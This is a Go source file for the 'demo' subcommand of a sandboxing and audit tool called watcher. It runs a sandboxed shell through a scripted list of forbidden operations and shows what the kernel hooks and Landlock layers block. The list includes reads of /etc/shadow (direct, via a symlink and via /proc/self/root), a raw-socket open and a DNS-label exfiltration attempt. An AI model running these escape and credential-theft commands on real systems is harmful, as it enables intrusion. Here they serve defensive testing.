package main

import (
	"bytes"
	"context"
	"errors"
	"os/exec"
	"syscall"

	"golang.org/x/sys/unix"

	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"sync"
	"time"

	"github.com/watcherhq/watcher/internal/cgroupfs"
	"github.com/watcherhq/watcher/internal/control"
	"github.com/watcherhq/watcher/internal/limits"
	"github.com/watcherhq/watcher/internal/textesc"

	"github.com/watcherhq/watcher/internal/agent"
	"github.com/watcherhq/watcher/internal/audit"
	"github.com/watcherhq/watcher/internal/enforce"
	"github.com/watcherhq/watcher/internal/launch"
	"github.com/watcherhq/watcher/internal/policy"
)

func init() {
	register("demo", command{Summary: "a private agent on the default policy, a sandboxed shell trying forbidden things", Run: runDemo})
}

// demoStep is one thing the sandboxed "agent" tries.
type demoStep struct {
	what   string
	script string
}

var demoSteps = []demoStep{
	{"list the workspace (allowed)", `ls -la "$WS" >/dev/null && echo ok`},
	{"write in the workspace (allowed)", `echo notes > "$WS/notes.txt" && cat "$WS/notes.txt"`},
	{"read /etc/shadow", `cat /etc/shadow | head -1`},
	{"read /etc/shadow through a symlink", `ln -sf /etc/shadow "$WS/innocent" && cat "$WS/innocent" | head -1`},
	{"read /etc/shadow through /proc/self/root", `cat /proc/self/root/etc/shadow | head -1`},
	{"mount a tmpfs", `mkdir -p "$WS/mnt" && mount -t tmpfs none "$WS/mnt" && echo mounted`},
	{"write /proc/sys/vm/swappiness", `cat /proc/sys/vm/swappiness > /proc/sys/vm/swappiness && echo written`},
	{"raw socket", `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print("opened")'`},
	{"resolve a name off the allowlist", `getent hosts example.com || echo "no answer"`},
	{"exfiltrate through a DNS label", `getent hosts dGhpcyBpcyBhIHNlY3JldCBpbmZvCg.example.com || echo "no answer"`},
}

func runDemo(ctx context.Context, args []string, stdout, stderr io.Writer) error {
	fs := flag.NewFlagSet("demo", flag.ContinueOnError)
	keep := fs.String("ledger", "", "write the demo ledger here and keep it (default: a temporary directory, removed)")
	if err := parseFlags(fs, args, stderr, `Usage: watcher demo [flags]

Starts a private agent on the default policy (restricted preset), runs a
sandboxed shell that tries a series of forbidden operations, prints what
happened to each and the events the agent recorded, then verifies the
ledger. Needs root. Leaves nothing behind (pins, cgroups, sockets).`); err != nil {
		return helpOK(err)
	}
	tmp, err := os.MkdirTemp("", "watcher-demo-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(tmp)
	ws := filepath.Join(tmp, "workspace")
	os.MkdirAll(ws, 0o755)
	pol := policy.Default()
	id := strconv.Itoa(os.Getpid())
	pol.Agent.LedgerDir = filepath.Join(tmp, "ledger")
	if *keep != "" {
		pol.Agent.LedgerDir = *keep
	}
	pol.Agent.SocketDir = filepath.Join(tmp, "run")
	pol.Agent.PinDir = filepath.Join(filepath.Dir(pol.Agent.PinDir), "watcher-demo-"+id)
	pol.Agent.MetricsAddr = ""
	pol.Agent.DNS.Listen = "127.0.0.1:0"
	pol.Agent.ExecCgroup = "/watcher-demo-" + id
	pol.Sandboxes[0].Select.Cgroups = []string{"/watcher-demo-" + id}
	pol.Sandboxes[0].Workspace = []string{ws}
	// The demo is a scripted escape attempt: let the escape watch raise its
	// alert without freezing the sandbox, so every step still runs.
	pol.Sandboxes[0].Escape.Action = policy.EscapeAlert
	sbRoot, err := cgroupfs.Abs(pol.Sandboxes[0].Select.Cgroups[0])
	if err != nil {
		return err
	}
	// Whatever happens, leave no pins or cgroups behind.
	defer enforce.Unpin(pol.Agent.PinDir)
	defer func() {
		if err := limits.RemoveTree(sbRoot); err != nil { // with the v1 twins limits made
			fmt.Fprintln(os.Stderr, "watcher demo:", textesc.String(err.Error()))
		}
	}()

	var mu sync.Mutex
	var events []audit.Event
	a, err := agent.Start(ctx, agent.Options{Policy: pol, RecordExecDenials: true, OnEvent: func(e audit.Event) {
		if e.Kind == audit.KindExec || e.Kind == audit.KindExit {
			return
		}
		mu.Lock()
		events = append(events, e)
		mu.Unlock()
	}})
	if err != nil {
		return fmt.Errorf("start the demo agent: %w", err)
	}
	stopped := false
	stop := func() {
		if !stopped {
			stopped = true
			a.Stop()
			enforce.Unpin(pol.Agent.PinDir)
		}
	}
	defer stop()
	fmt.Fprintf(stdout, "Enforcement on this kernel (rules per layer; `watcher status` lists them): %s\n", control.LayerSummary(a.Layers()))
	fmt.Fprintf(stdout, "\nSandbox %q (preset restricted), workspace %s, DNS proxy %s\n\n", pol.Sandboxes[0].Name, ws, a.DNSAddr())

	plan := a.Plan()
	fmt.Fprintln(stdout, "A process placed in the sandbox cgroup (as a container runtime would): kernel hooks only")
	for i, step := range demoSteps {
		err := demoStepRun(ctx, stdout, &mu, &events, i+1, step, func(out io.Writer) (string, error) {
			return runInCgroup(ctx, filepath.Join(sbRoot, fmt.Sprintf("step-%d", i+1)), ws, step.script, out)
		})
		if err != nil {
			return err
		}
	}
	fmt.Fprintln(stdout, "\nThe same through watcher exec: seccomp and Landlock apply first, then the kernel hooks")
	for i, step := range demoSteps[2:7] {
		err := demoStepRun(ctx, stdout, &mu, &events, i+1, step, func(out io.Writer) (string, error) {
			v, err := launch.Run(ctx, launch.Config{
				Path: "/bin/sh", Args: []string{"-c", step.script},
				Env: []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "WS=" + ws},
				Dir: ws, Stdout: out, Stderr: out,
				Sandbox: pol.Sandboxes[0].Name, CgroupParent: pol.Sandboxes[0].Select.Cgroups[0],
				Label: fmt.Sprintf("demo-%d", i+1), Restrictions: plan.Launch[pol.Sandboxes[0].Name],
				Timeouts: launch.Timeouts{Kill: 20 * time.Second},
			})
			if v.Signal != 0 {
				return "killed by " + unix.SignalName(v.Signal), err
			}
			return fmt.Sprintf("exit %d", v.ExitCode), err
		})
		if err != nil {
			return err
		}
	}
	stop()
	fmt.Fprintf(stdout, "\nLedger %s:\n", pol.Agent.LedgerDir)
	return run(ctx, []string{"verify", pol.Agent.LedgerDir}, stdout, stderr)
}

// demoStepRun runs one step, prints its result and the events it caused.
func demoStepRun(ctx context.Context, stdout io.Writer, mu *sync.Mutex, events *[]audit.Event, n int, step demoStep,
	do func(out io.Writer) (string, error)) error {
	mu.Lock()
	before := len(*events)
	mu.Unlock()
	var out bytes.Buffer
	result, err := do(&out)
	if err != nil {
		return fmt.Errorf("step %q: %w", step.what, err)
	}
	time.Sleep(200 * time.Millisecond) // the reader polls the rings every 50 ms
	fmt.Fprintf(stdout, "%2d. %-42s %s: %s\n", n, step.what, result, firstLine(out.String()))
	mu.Lock()
	for _, e := range (*events)[before:] {
		fmt.Fprintf(stdout, "      %s\n", compactLine(&e, false))
	}
	mu.Unlock()
	return nil
}

// runInCgroup runs a shell script in a fresh cgroup below the sandbox root,
// with no restrictions of watcher's own: only the kernel hooks apply.
func runInCgroup(ctx context.Context, cg, ws, script string, out io.Writer) (string, error) {
	if err := cgroupfs.Create(cg); err != nil {
		return "", err
	}
	defer cgroupfs.Remove(cg)
	ctx, cancel := context.WithTimeout(ctx, 20*time.Second)
	defer cancel()
	fd, err := os.Open(cg)
	if err != nil {
		return "", err
	}
	defer fd.Close()
	cmd := exec.CommandContext(ctx, "/bin/sh", "-c", script)
	cmd.Env = []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "WS=" + ws}
	cmd.Dir, cmd.Stdout, cmd.Stderr = ws, out, out
	cmd.SysProcAttr = &syscall.SysProcAttr{UseCgroupFD: true, CgroupFD: int(fd.Fd())}
	cmd.WaitDelay = 5 * time.Second
	err = cmd.Run()
	var ee *exec.ExitError
	switch {
	case err == nil:
		return "exit 0", nil
	case errors.As(err, &ee):
		if st, ok := ee.Sys().(syscall.WaitStatus); ok && st.Signaled() {
			return "killed by " + unix.SignalName(st.Signal()), nil
		}
		return fmt.Sprintf("exit %d", ee.ExitCode()), nil
	}
	return "", err
}

func firstLine(s string) string {
	if i := bytes.IndexByte([]byte(s), '\n'); i >= 0 {
		s = s[:i]
	}
	if len(s) > 70 {
		s = s[:70] + "..."
	}
	if s == "" {
		s = "(no output)"
	}
	return s
}
